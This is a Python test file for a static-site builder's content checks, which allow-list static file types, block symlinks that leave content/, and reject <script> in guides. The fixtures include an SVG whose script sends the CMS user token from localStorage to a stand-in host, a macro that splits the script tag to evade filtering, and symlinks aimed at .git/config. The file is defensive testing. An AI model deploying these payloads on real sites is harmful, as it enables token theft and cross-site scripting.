"""Files of content/: only allow-listed static files that cannot run are published (check, build,
export), symbolic links only inside content/, no <script> in guides, and the form editor's
file fields accept the same types."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import make_project, write
from vademecum.cli import main
from vademecum.editors.cms_site import MEDIA_ACCEPT, MEDIA_FOLDER, _media_accepted
from vademecum.site.content_files import STATIC_SUFFIXES, content_problems, published, refusal

ACADEMY = "academie-test"
SVG_WITH_SCRIPT = (
    '<svg xmlns="http://www.w3.org/2000/svg"><script>'
    "fetch('https://x.example/?t='+localStorage.getItem('sveltia-cms.user'))"
    "</script></svg>"
)
REFUSED = {
    "page.html": "<script>alert(1)</script>",
    "page.htm": "<script>alert(1)</script>",
    "page.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "script.js": "alert(1)",
    "module.mjs": "export default 1",
    "logo.svg": '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>',
    "image-piegee.svg": SVG_WITH_SCRIPT,
    "flux.xml": "<?xml version='1.0'?><x/>",
    "notes.txt": "alert(1)",
    "programme.exe": "MZ",
    "sans-extension": "x",
}


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    return make_project(tmp_path_factory.mktemp("static") / "template")


@pytest.fixture
def project(template, tmp_path) -> Path:
    import shutil

    target = tmp_path / "p"
    shutil.copytree(template, target)
    return target


def check(project: Path, capsys) -> tuple[int, str]:
    code = main(["--root", str(project), "check", "--academy", ACADEMY])
    return code, capsys.readouterr().err


def build(project: Path, capsys) -> tuple[int, str]:
    site = str(project / "site")
    code = main(["--root", str(project), "build", "--academy", ACADEMY, "--site-dir", site])
    return code, capsys.readouterr().err


# -- unit: the rule itself -------------------------------------------------------------------
@pytest.mark.parametrize("name", REFUSED)
def test_every_refused_type_is_named_with_a_french_reason(tmp_path, name):
    content = tmp_path / "content"
    write(tmp_path, f"content/assets/{name}", REFUSED[name])
    problems = content_problems(tmp_path)
    assert [(p.file, p.field) for p in problems] == [(f"content/assets/{name}", "(fichier)")]
    assert problems[0].message.startswith("fichier refusé : ")
    assert not published(content, content / "assets" / name)


@pytest.mark.parametrize("suffix", [*STATIC_SUFFIXES, ".PNG", ".Jpeg"])
def test_allowed_static_types_pass(tmp_path, suffix):
    path = write(tmp_path, f"content/assets/fichier{suffix}", b"\x89PNG")
    assert refusal(tmp_path / "content", path) is None
    assert content_problems(tmp_path) == []


def test_hidden_files_are_neither_published_nor_reported(tmp_path):
    path = write(tmp_path, "content/assets/.gitkeep", "")
    write(tmp_path, "content/.cache/x.html", "<script>")
    assert content_problems(tmp_path) == []
    assert not published(tmp_path / "content", path)


def test_links_are_published_only_when_they_stay_in_content(tmp_path):
    write(tmp_path, ".git/config", "[remote]\n  url = https://jeton@forge/x\n")
    write(tmp_path, "content/assets/vrai.png", b"\x89PNG")
    write(tmp_path, "README.md", "# Projet\n")
    links = {
        "content/config.png": "../.git/config",  # a file of .git/, under an allowed name
        "content/depot": "../.git",  # a folder: MkDocs would publish what it holds
        "content/lisez-moi.md": "../README.md",  # in the project, but not in content/
        "content/absent.png": "nulle-part.png",
        "content/assets/alias.png": "vrai.png",  # inside content/: published
    }
    for link, target in links.items():
        (tmp_path / link).symlink_to(target)
    found = {p.file: p.message for p in content_problems(tmp_path)}
    assert set(found) == set(links) - {"content/assets/alias.png"}
    for link in ("content/config.png", "content/depot", "content/lisez-moi.md"):
        assert "lien symbolique vers un fichier hors de content/" in found[link]
    assert "lien symbolique cassé" in found["content/absent.png"]
    assert published(tmp_path / "content", tmp_path / "content/assets/alias.png")


def test_a_script_in_a_guide_is_refused_with_its_line(tmp_path):
    write(tmp_path, "content/guide.md", '# Guide\n\nTexte.\n<SCRIPT src="assets/x.csv"></script>\n')
    write(tmp_path, "content/montre.md", "# Guide\n\nLa balise &lt;script> est interdite.\n")
    [problem] = content_problems(tmp_path)
    assert (problem.file, problem.line, problem.field) == ("content/guide.md", 4, "(guide)")
    assert "élément <script> interdit" in problem.message


@pytest.mark.parametrize(
    "guide", ["content/_textes/bilan.md", "content/academies/x/page.md", "content/regions/r/p.md"]
)
def test_prose_and_local_guides_are_checked_too(tmp_path, guide):
    write(tmp_path, guide, "Texte\n<script src=x.csv></script>\n")
    assert [(p.file, p.line) for p in content_problems(tmp_path)] == [(guide, 2)]


def test_the_form_editor_accepts_only_the_published_types(tmp_path):
    assert MEDIA_FOLDER.startswith("content/")
    accepted = MEDIA_ACCEPT.split(",")
    for suffix in accepted:
        write(tmp_path, f"{MEDIA_FOLDER}/envoi{suffix}", b"x")
    assert len(accepted) == len(STATIC_SUFFIXES) and content_problems(tmp_path) == []
    assert not {".svg", ".html", ".js", ".xml"} & set(accepted)
    fields = [
        {"name": "logo", "widget": "image"},
        {"name": "pieces", "widget": "list", "fields": [{"name": "f", "widget": "file"}]},
        {"name": "titre", "widget": "string"},
    ]
    out = _media_accepted(fields)
    assert out[0]["accept"] == MEDIA_ACCEPT and out[1]["fields"][0]["accept"] == MEDIA_ACCEPT
    assert "accept" not in out[2] and "accept" not in out[1]


# -- check, build and export -------------------------------------------------------------------
def test_check_and_build_refuse_every_refused_type_and_publish_nothing(project, capsys):
    for name, text in REFUSED.items():
        write(project, f"content/assets/{name}", text)
    code, err = check(project, capsys)
    assert code == 1
    for name in REFUSED:
        assert f"content/assets/{name}:1:1: (fichier): fichier refusé" in err
    code, err = build(project, capsys)
    assert code == 1 and "Traceback" not in err
    assert all(f"content/assets/{name}" in err for name in REFUSED)
    assert not (project / "site").exists()


def test_a_svg_with_a_script_fails_the_build(project, capsys):
    write(project, "content/assets/logo.svg", SVG_WITH_SCRIPT)
    code, err = build(project, capsys)
    assert code == 1 and "content/assets/logo.svg" in err and "image SVG" in err
    assert not (project / "site").exists()


def test_a_link_to_git_fails_check_and_build(project, capsys):
    write(project, ".git/config", "[remote]\n  url = https://jeton@forge/x\n")
    (project / "content" / "config.png").symlink_to("../.git/config")
    (project / "content" / "depot").symlink_to("../.git")
    code, err = check(project, capsys)
    assert code == 1
    assert (
        "content/config.png:1:1: (fichier): lien symbolique vers un fichier hors de content/" in err
    )
    assert "content/depot:1:1: (fichier): lien symbolique" in err
    code, err = build(project, capsys)
    assert code == 1 and "content/depot" in err
    assert not (project / "site").exists()


def test_allowed_files_and_inner_links_are_published(project, capsys):
    write(project, "content/assets/plan.png", b"\x89PNG\r\n")
    write(project, "content/assets/.gitkeep", "")
    (project / "content" / "assets" / "alias.png").symlink_to("plan.png")
    code, err = build(project, capsys)
    assert code == 0, err
    site = project / "site"
    assert (site / "assets" / "plan.png").read_bytes() == b"\x89PNG\r\n"
    assert (site / "assets" / "alias.png").read_bytes() == b"\x89PNG\r\n"
    assert not (site / "assets" / ".gitkeep").exists()


def test_a_script_written_by_a_guide_s_macros_fails_the_build(project, capsys):
    macro = '{{ "<scr" ~ "ipt src=assets/x.csv></scr" ~ "ipt>" }}'
    write(project, "content/piege.md", f"# Piège\n\n{macro}\n")
    code, err = build(project, capsys)
    assert code == 1 and "content/piege.md" in err and "élément <script> interdit" in err
    assert not (project / "site").exists()


def test_export_refuses_and_copies_only_allowed_files(project, capsys, tmp_path):
    write(project, "content/assets/plan.png", b"\x89PNG")
    write(project, "content/assets/.env", "SECRET=1")
    target = tmp_path / "export"
    assert main(["--root", str(project), "export", "--academy", ACADEMY, str(target)]) == 0
    assert (target / "docs" / "assets" / "plan.png").is_file()
    assert not (target / "docs" / "assets" / ".env").exists()
    write(project, "content/assets/page.html", "<script>alert(1)</script>")
    before = sorted(p.name for p in (target / "docs" / "assets").iterdir())
    assert main(["--root", str(project), "export", "--academy", ACADEMY, str(target)]) == 1
    assert "content/assets/page.html" in capsys.readouterr().err
    assert sorted(p.name for p in (target / "docs" / "assets").iterdir()) == before


def test_refused_files_stay_out_even_when_the_check_is_bypassed(project, capsys, monkeypatch):
    """The build's and the export's own filters, behind the check that fails them first."""
    monkeypatch.setattr("vademecum_mkdocs.plugin.guide_problems", lambda root: [])
    monkeypatch.setattr("vademecum_mkdocs.commands.guide_problems", lambda root: [])
    write(project, "content/assets/plan.png", b"\x89PNG")
    for name, text in REFUSED.items():
        write(project, f"content/assets/{name}", text)
    (project / "content" / "config.png").symlink_to("../mkdocs.yml")
    code, err = build(project, capsys)
    assert code == 0, err
    published_files = {p.name for p in (project / "site" / "assets").iterdir()}
    assert "plan.png" in published_files and not set(REFUSED) & published_files
    assert not (project / "site" / "config.png").exists()
    export = project.parent / "export"
    assert main(["--root", str(project), "export", "--academy", ACADEMY, str(export)]) == 0
    exported = {p.name for p in (export / "docs" / "assets").iterdir()}
    assert "plan.png" in exported and not set(REFUSED) & exported
    assert not (export / "docs" / "config.png").exists()
